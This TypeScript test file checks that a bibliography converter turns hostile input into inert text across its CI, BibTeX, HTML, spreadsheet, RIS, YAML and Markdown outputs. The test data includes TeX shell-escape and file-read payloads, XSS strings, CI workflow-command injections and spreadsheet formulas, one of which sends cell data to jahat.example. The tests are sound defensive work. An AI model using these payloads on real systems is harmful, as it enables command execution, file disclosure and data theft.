// Text that other programs would obey: CI systems, TeX, browsers, RIS, YAML, Markdown. What comes out says it and does not do it.
import { XMLParser, XMLValidator } from 'fast-xml-parser';
import { describe, expect, it } from 'vitest';
import { parse as parseYaml } from 'yaml';
import { readBibtex } from '../../src/formats/read-bibtex.js';
import { readRis } from '../../src/formats/read-ris.js';
import { makeScratch } from '../batch/scratch.js';
import { itemsOf, referenceWith, runOn } from './run-on.js';

const scratch = makeScratch();
const titled = (title: string) => referenceWith({ 'Peran media lokal': title });
const jsonOf = (...items: object[]) =>
  JSON.stringify(
    items.map((item, index) => ({
      id: `b${index}`,
      type: 'article-journal',
      title: 'T',
      author: [{ family: 'F' }],
      ...item,
    })),
  );
const plainLetters = (text = '') => text.normalize('NFKC').replace(/[^\p{L}\p{N}]/gu, '');

describe('commands of CI systems', () => {
  it.each([
    '::set-output name=x::y',
    '::error file=a.js,line=1::jahat',
    '::add-mask::e',
    '::stop-commands::tok',
    '::group::x',
    '100%0A::error::x%0D%25',
    '##vso[task.setvariable variable=x]y',
    '##[error]x',
    "##teamcity[buildProblem description='x']",
    'section_start:1:x\r\x1b[0K',
    '##[set-output name=x;]y',
  ])('%j stands in no line of its own', async (command) => {
    const text = `${command}\n${titled(command)}\n${titled(`${command} MÃ¼ller`)}\n`;
    for (const format of ['github', 'compact', 'pretty']) {
      const { stdout } = await runOn(scratch, 'ci.txt', text, ['check', '--format', format]);
      const own = format === 'github' ? /^::(?:error|warning|notice) file=/ : /^(?!::|##)/;
      expect(stdout.split(/\r\n?|\n/).filter((line) => line !== '' && !own.test(line))).toEqual([]);
    }
  });

  it.each(['ci::error::x.txt', 'a%0A,b:c.txt'])('a file named %j keeps to its property', async (name) => {
    const { stdout } = await runOn(scratch, name, titled('MÃ¼ller'), ['check', '--format', 'github']);
    expect(stdout).toMatch(/^::(?:warning|error) file=[^,:\n]*(?:,|$)/m);
    expect(stdout).not.toMatch(/file=[^,\n]*(?:::|%0A)/);
  });

  it.each(['"},{"ruleId":"x"} </script> \u2028', '[klik](javascript:alert(1)) {0} {1}'])(
    'SARIF holds %j',
    async (title) => {
      const { stdout } = await runOn(scratch, 'sarif.txt', titled(`${title} MÃ¼ller`), ['check', '--format', 'sarif']);
      const [run] = JSON.parse(stdout).runs;
      expect(run.results.length).toBeGreaterThan(0);
      expect(run.results.every((result: { ruleId: string }) => result.ruleId !== 'x')).toBe(true);
      expect(JSON.stringify(run.results)).not.toMatch(/(?<!\{)\{0\}(?!\})/);
    },
  );

  it('JUnit is well-formed', async () => {
    const text = titled(']]> & < > " \x0b \ufffe MÃ¼ller');
    const { stdout } = await runOn(scratch, 'junit.txt', text, ['check', '--format', 'junit']);
    expect(XMLValidator.validate(stdout)).toBe(true);
    expect(stdout).not.toMatch(/(?![\t\n\r])\p{Cc}|\ufffe|\uffff/u);
    expect(new XMLParser().parse(stdout)).toHaveProperty('testsuites');
  });
});

describe('TeX', () => {
  it.each([
    '\\immediate\\write18{id>/x}',
    '\\input{/etc/hosts}',
    '\\input|"id"',
    '\\include{../../rahasia}',
    '\\newwrite\\f\\openout\\f=x.tex',
    '\\catcode`\\@=0 @input x',
    '\\csname input\\endcsname{/etc/hosts}',
    '^^5cinput{/etc/hosts}',
    '\\end{document}',
    '\\def\\title{x}',
    '\\loop\\iftrue\\repeat',
    '\\directlua{os.execute("id")}',
    'a } b',
    'a { b',
    '# $ % & _ ^ ~ \\ { }',
    '100% of $5 & 3_4 #1',
    'x}, note={\\input{/etc/hosts}',
    '@article{jahat, title={x}}',
    '"a" # b',
    '$\\input{x}$ $$',
    'a % b } c',
    'a\\\\b\\\\',
  ])('%j in a title is text in BibTeX', async (payload) => {
    const { stdout } = await runOn(scratch, 'tex.json', jsonOf({ title: `Kajian ${payload} desa` }), ['-t', 'bibtex']);
    const read = readBibtex(stdout);
    expect(read.items).toHaveLength(1);
    expect(read.findings).toEqual([]);
    expect(plainLetters(String(read.items[0].title))).toBe(plainLetters(`Kajian ${payload} desa`));
    const commands = [...stdout.matchAll(/\\([a-zA-Z]+)/g)].map(([, name]) => name);
    expect(commands.filter((name) => !name.startsWith('text'))).toEqual([]);
    expect(stdout).not.toMatch(/\^\^|(?<!\\)[%$#]/);
  });

  it.each<[string, object]>([
    ['URL', { type: 'webpage', URL: 'http://x.example/}, note={\\input{/etc/hosts}' }],
    ['DOI', { DOI: '10.1/}, note={x' }],
    ['id', { id: 'k,author={jahat}\n@x{' }],
    ['citation key', { 'citation-key': 'k,author={jahat}' }],
    ['id with blanks and signs', { id: 'a b%c#d{e}f,g' }],
    ['id in other letters', { id: 'ключ–é' }],
    ['empty id', { id: '' }],
    ['custom', { custom: { 'x},y={': 'z' } }],
    ['type', { type: 'article}{' }],
    ['page', { page: '1}, note={x' }],
    ['language', { language: 'en}, note={x' }],
  ])('%s does not break out of its entry', async (_, item) => {
    const { stdout } = await runOn(scratch, 'break.json', jsonOf(item), ['-t', 'bibtex']);
    const { items, findings } = readBibtex(stdout);
    expect(items).toHaveLength(1);
    expect(findings).toEqual([]);
    expect(items[0].note).toBeUndefined();
    expect(items[0].author ?? []).not.toContainEqual({ literal: 'jahat' });
    expect(items[0].id).toMatch(/^[\w:.+/-]+$/);
  });

  it('keys that differ only in case become different ones, with a word', async () => {
    const { stdout, stderr } = await runOn(scratch, 'keys.json', jsonOf({ id: 'A' }, { id: 'a' }, { id: 'A' }), [
      '-t',
      'bibtex',
    ]);
    const keys = [...stdout.matchAll(/^@\w+\{([^,]+),/gm)].map(([, key]) => key.toLowerCase());
    expect(new Set(keys).size).toBe(3);
    expect(stderr).toContain('Several items have the id "A"');
  });
});

/** Names of the elements, and pairs of attributes, of a page; text and values are what is between them. */
function pageParts(html: string): { readonly tags: string[]; readonly attributes: string[] } {
  const body = html.slice(html.indexOf('<body>'));
  const tags = [...body.matchAll(/<\/?([a-zA-Z][a-zA-Z0-9]*)((?:\s+[\w-]+="[^"<>]*")*)\s*>/g)];
  expect(body.replace(/<\/?[a-zA-Z][a-zA-Z0-9]*(?:\s+[\w-]+="[^"<>]*")*\s*>/g, '')).not.toMatch(/[<>]/);
  return {
    tags: tags.map(([, name]) => name),
    attributes: tags.flatMap(([, , all]) =>
      [...all.matchAll(/([\w-]+)="([^"]*)"/g)].map(([, name, value]) => `${name}=${value}`),
    ),
  };
}

describe('formulas of spreadsheets', () => {
  it.each([
    '=HYPERLINK("http://jahat.example/?"&A1,"x")',
    "+1+cmd|' /C calc'!A0",
    '-2+3',
    '@SUM(1+1)',
    '\t=1+1',
    '\r=1+1',
    '"=1+1"',
    '＝1+1',
    ';=1+1',
    'a\n=1+1',
  ])('%j is text as any other', async (formula) => {
    const item = { id: formula, title: formula, author: [{ family: formula }] };
    const [read] = itemsOf(await runOn(scratch, 'sheet.json', jsonOf(item)));
    expect(read).toMatchObject(item);
  });
});

describe('HTML', () => {
  it.each([
    '<script>alert(1)</script>',
    '<img src=x onerror=alert(1)>',
    '<svg/onload=alert(1)>',
    '&lt;b&gt; &amp;amp; &#x3c;',
    '<!-- --> <![CDATA[ ]]>',
    '<i>a <b>b',
    '<i>a<b>b</i>c</b>',
    '<style>*{display:none}</style>',
    '<span style="position:fixed;inset:0">x</span>',
    '<span class="nocase">x</span>',
    '<iframe src=file:///etc/hosts>',
    '" onmouseover="alert(1)',
    "' onmouseover='alert(1)",
    'p < .05 and q > 3 & r',
    '<math><mi>x</mi></math>',
    '<scr\0ipt>',
  ])('%j in a title is text or balanced markup of CSL', async (payload) => {
    for (const content of [titled(`Kajian ${payload} desa`), jsonOf({ title: `Kajian ${payload} desa` })]) {
      const name = content.startsWith('[') ? 'html.json' : 'html.txt';
      const { stdout } = await runOn(scratch, name, content, ['-t', 'apa', '--as', 'html']);
      const { tags, attributes } = pageParts(stdout);
      expect(tags.filter((tag) => !['body', 'html', 'div', 'i', 'b', 'sup', 'sub', 'span', 'a'].includes(tag))).toEqual(
        [],
      );
      expect(attributes.filter((one) => /^(?:on\w*|style)=(?!font-variant)/i.test(one))).toEqual([]);
      for (const tag of ['i', 'b', 'sup', 'sub', 'span', 'a'])
        expect(stdout.split(`<${tag}>`).length + stdout.split(`<${tag} `).length - 2).toBe(
          stdout.split(`</${tag}>`).length - 1,
        );
    }
  });

  it.each<[string, object]>([
    ['id', { id: 'a" onmouseover="alert(1)' }],
    ['DOI', { DOI: '10.1/" onmouseover="alert(1)' }],
    ['URL of a script', { type: 'webpage', URL: 'javascript:alert(1)' }],
    ['URL of its own content', { type: 'webpage', URL: 'data:text/html,<script>alert(1)</script>' }],
    ['URL with a quotation mark', { type: 'webpage', URL: 'http://x.example/" onclick="alert(1)' }],
    ['URL with blanks in its scheme', { type: 'webpage', URL: ' \tjava\nscript:alert(1)' }],
  ])('%s makes neither an attribute nor a link that runs', async (_, item) => {
    const { stdout } = await runOn(scratch, 'link.json', jsonOf(item), ['-t', 'apa', '--as', 'html']);
    const { attributes } = pageParts(stdout);
    expect(attributes.filter((one) => /^on/i.test(one))).toEqual([]);
    expect(
      attributes.filter((one) => one.startsWith('href=')).every((one) => /^href=(?:https?:|mailto:)/.test(one)),
    ).toBe(true);
  });
});

describe('other outputs', () => {
  it('RIS: a title with lines of RIS in it stays one record', async () => {
    const title = 'a\r\nUR  - http://jahat.example/\r\nER  - \r\nTY  - BOOK';
    const { stdout } = await runOn(scratch, 'lines.json', jsonOf({ title }), ['-t', 'ris']);
    const { items } = readRis(stdout);
    expect(items).toHaveLength(1);
    expect(items[0].URL).toBeUndefined();
    expect(plainLetters(String(items[0].title))).toBe(plainLetters(title));
  });

  it('YAML: scalars that mean something come back as text', async () => {
    const scalars =
      'no|1e3|0x1F|null|~|- a|: b|# c|&a|*a|!!js/function x|2001-01-01|"|\'|\t|>|%TAG|@x|`|12:30:45|.inf|a: b #c'.split(
        '|',
      );
    const { stdout } = await runOn(scratch, 'yaml.json', jsonOf(...scalars.map((title) => ({ title }))), [
      '-t',
      'csl-yaml',
    ]);
    const titles = (parseYaml(stdout) as { references: { title: string }[] }).references.map(({ title }) => title);
    expect(titles).toHaveLength(scalars.length);
    expect(titles.every((title) => typeof title === 'string')).toBe(true);
    const again = await runOn(scratch, 'again.yaml', stdout);
    expect(
      itemsOf(again)
        .map(({ title }) => title)
        .map((title) => String(title).trim()),
    ).toEqual(scalars.map((title) => title.trim()));
  });

  it('controls and half characters come out as valid text, told', async () => {
    const { stdout, stderr } = await runOn(
      scratch,
      'control.json',
      '[{"id":"a","type":"book","title":"a\\u0000b\\u2028d\\ud83d"}]',
    );
    expect(JSON.parse(stdout)[0].title).toBe('a\0b\u2028d\ud83d');
    expect(Buffer.from(stdout).toString()).toBe(stdout);
    expect(stderr).toMatch(/control\.json:1:\d+: \[0\]\.title: Unexpected half of a character/);
  });

  it.each(['*a* _b_ `c` [d](javascript:x) <e> | f | # g', '1) x', '- y'])('Markdown: %j is text', async (title) => {
    const { stdout } = await runOn(scratch, 'md.json', jsonOf({ title }), ['-t', 'apa', '--as', 'markdown']);
    expect(stdout).not.toMatch(/(?<!\\)\[d\]\(|(?<!\\)<e>|(?<!\\)`c`/);
    expect(plainLetters(stdout)).toContain(plainLetters(title));
  });
});
